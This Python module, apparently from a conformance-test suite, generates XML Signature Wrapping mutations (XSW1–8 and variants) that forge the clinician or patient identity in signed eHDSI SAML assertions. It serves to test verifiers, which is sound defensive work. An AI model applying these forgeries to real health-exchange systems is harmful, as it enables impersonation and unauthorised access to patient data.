"""Signature wrapping: the sealed assertion is kept, and something forged is read.

The eight variants were named for SAML responses; here the security header takes the
place of the response, since eHDSI signs assertions and never messages.

Spec: Somorovsky et al., "On Breaking SAML" (2012) / CWE-347 / SAML 2.0 Core §5.4.2.
"""

from __future__ import annotations

from collections.abc import Callable
from enum import StrEnum
from typing import Final, TypeAlias

from lxml import etree

from conformance.attacks.attack import Mutation
from conformance.attacks.changes import (
    at,
    attribute_value,
    parsed,
    remove,
)
from conformance.attacks.message import Message
from conformance.attacks.sealing import signature_of
from trust.namespaces import DS, SAML

_SECURITY: Final = "soap:Header/wsse:Security"
_SUBJECT_ID: Final = "urn:oasis:names:tc:xspa:1.0:subject:subject-id"
_FORGED_ID: Final = "_forged"

_Tree: TypeAlias = etree._Element  # noqa: SLF001 - lxml has no other name for it
# Gets the security header, the sealed original in it, and a forged copy to place.
Placing: TypeAlias = Callable[[_Tree, _Tree, _Tree], None]
Picking: TypeAlias = Callable[[Message], bytes]


def the_hcp(message: Message) -> bytes:
    """Attack the identity of the professional."""
    return message.hcp


def the_trc(message: Message) -> bytes:
    """Attack the identity of the patient."""
    return message.the_trc


def wrapped(
    pick: Picking, place: Placing, identifier: str | None = _FORGED_ID
) -> Mutation:
    """Place a forged copy of an assertion beside, around or inside the sealed one.

    Places are found in the tree, but what was signed is put there as bytes: moved as a
    tree it would change its prefixes, and its digest would fail for a wrong reason.
    """

    def mutate(message: Message) -> Message:
        sealed = pick(message)

        def change(root: etree._Element) -> None:
            security = at(root, _SECURITY)
            original = next(each for each in security if _is(each, sealed))
            hole = _hole(Part.SEALED)
            original.addprevious(hole)
            security.remove(original)
            place(security, hole, _forged(sealed, identifier))

        return _filled(message.bent(change), sealed)

    return mutate


class Part(StrEnum):
    """What can be kept of a sealed assertion; each marks a place to be filled."""

    SEALED = "attack-sealed"
    BARE = "attack-bare"  # without its signature
    SIGNATURE = "attack-signature"
    AROUND = "attack-around"  # the signature, with the bare assertion inside
    OBJECT = "attack-object"  # the same, in a ds:Object


def _hole(part: Part) -> etree._Element:
    mark: etree._Element = etree.ProcessingInstruction(part)
    return mark


def _filled(message: Message, sealed: bytes) -> Message:
    envelope = message.envelope
    for part, data in _parts(sealed).items():
        envelope = envelope.replace(etree.tostring(_hole(part)), data)
    return message.with_envelope(envelope)


def _parts(sealed: bytes) -> dict[Part, bytes]:
    prefix = signature_of(parsed(sealed)).prefix or ""
    name = f"{prefix}:Signature".lstrip(":").encode()
    closing = b"</" + name + b">"
    start, end = sealed.index(b"<" + name), sealed.index(closing)
    bare = sealed[:start] + sealed[end + len(closing) :]
    opened = sealed[start:end]
    held = f'<Object xmlns="{DS}">'.encode() + bare + b"</Object>"
    return {
        Part.SEALED: sealed,
        Part.BARE: bare,
        Part.SIGNATURE: opened + closing,
        Part.AROUND: opened + bare + closing,
        Part.OBJECT: opened + held + closing,
    }


def _is(element: etree._Element, assertion: bytes) -> bool:
    return element.get("ID") == parsed(assertion).get("ID")


def _forged(assertion: bytes, identifier: str | None) -> etree._Element:
    """Return a copy without signature, which claims to be about somebody else."""
    root = parsed(assertion)
    root.remove(signature_of(root))
    if identifier is not None:
        root.set("ID", identifier)
    at(root, attribute_value(_SUBJECT_ID)).text = "9999999999999^^^&1.3.182.4.4&ISO"
    at(root, "s:Subject/s:NameID").text = "somebody-else"
    return root


def header_around(
    security: etree._Element, _original: etree._Element, forged: etree._Element
) -> None:
    """XSW1: a forged header has the whole sealed header inside."""
    outer = etree.Element(security.tag)
    security.addprevious(outer)
    outer.extend([forged, security])


def header_before(
    security: etree._Element, _original: etree._Element, forged: etree._Element
) -> None:
    """XSW2: a forged header stands before the sealed one."""
    other = etree.Element(security.tag)
    other.append(forged)
    security.addprevious(other)


def forged_before(
    _security: etree._Element, original: etree._Element, forged: etree._Element
) -> None:
    """XSW3: the forged assertion is the first of two siblings."""
    original.addprevious(forged)


def forged_after(
    _security: etree._Element, original: etree._Element, forged: etree._Element
) -> None:
    """XSW3 turned round: readers that take the last one."""
    original.addnext(forged)


def sealed_inside(
    _security: etree._Element, original: etree._Element, forged: etree._Element
) -> None:
    """XSW4: the sealed assertion is the last child of the forged one."""
    original.addprevious(forged)
    forged.append(original)


def signature_moved(
    security: etree._Element, original: etree._Element, forged: etree._Element
) -> None:
    """XSW5: the forged assertion wears the signature, the original is put aside."""
    signature_shared(security, original, forged)
    security.addnext(_hole(Part.BARE))


def original_in_signature(
    _security: etree._Element, original: etree._Element, forged: etree._Element
) -> None:
    """XSW6: the forged assertion wears the signature with the original inside."""
    forged.insert(1, _hole(Part.AROUND))
    _replace(original, forged)


def in_extensions(
    _security: etree._Element, original: etree._Element, forged: etree._Element
) -> None:
    """XSW7: the forged assertion hides in an element that schemas let through."""
    extensions = etree.Element("{urn:oasis:names:tc:SAML:2.0:protocol}Extensions")
    extensions.append(forged)
    original.addprevious(extensions)


def original_in_object(
    _security: etree._Element, original: etree._Element, forged: etree._Element
) -> None:
    """XSW8: the original stands in a ds:Object of the forged one's signature."""
    forged.insert(1, _hole(Part.OBJECT))
    _replace(original, forged)


def original_in_advice(
    _security: etree._Element, original: etree._Element, forged: etree._Element
) -> None:
    """Let a verifier find what was signed inside, and return the outside."""
    original.addprevious(forged)
    advice = forged.find(f"{{{SAML}}}Advice")
    if advice is None:
        advice = etree.Element(f"{{{SAML}}}Advice")
        at(forged, "s:Conditions").addnext(advice)
    advice.append(original)


def original_in_body(
    security: etree._Element, original: etree._Element, forged: etree._Element
) -> None:
    """Let the sealed one be found by its ID, far from where the forged one is read."""
    signature_shared(security, original, forged)
    at(security.getroottree().getroot(), "soap:Body")[0].append(_hole(Part.BARE))


def signature_shared(
    _security: etree._Element, original: etree._Element, forged: etree._Element
) -> None:
    """Put the signature on the forged assertion, and keep nothing else."""
    forged.insert(1, _hole(Part.SIGNATURE))
    _replace(original, forged)


def _replace(original: etree._Element, forged: etree._Element) -> None:
    original.addprevious(forged)
    remove(original)


_VARIANTS: Final[dict[str, Placing]] = {
    "xsw-1": header_around,
    "xsw-2": header_before,
    "xsw-3": forged_before,
    "xsw-3b": forged_after,
    "xsw-4": sealed_inside,
    "xsw-5": signature_moved,
    "xsw-6": original_in_signature,
    "xsw-7": in_extensions,
    "xsw-8": original_in_object,
    "xsw-advice": original_in_advice,
    "xsw-body": original_in_body,
}

MUTATIONS: Final[dict[str, Mutation]] = {
    **{name: wrapped(the_hcp, place) for name, place in _VARIANTS.items()},
    **{f"trc-{name}": wrapped(the_trc, place) for name, place in _VARIANTS.items()},
    "xsw-same-id": wrapped(the_hcp, forged_before, None),
    "xsw-replaced": wrapped(the_hcp, signature_shared, None),
}
"""The mutations of this module by the id of their attack."""
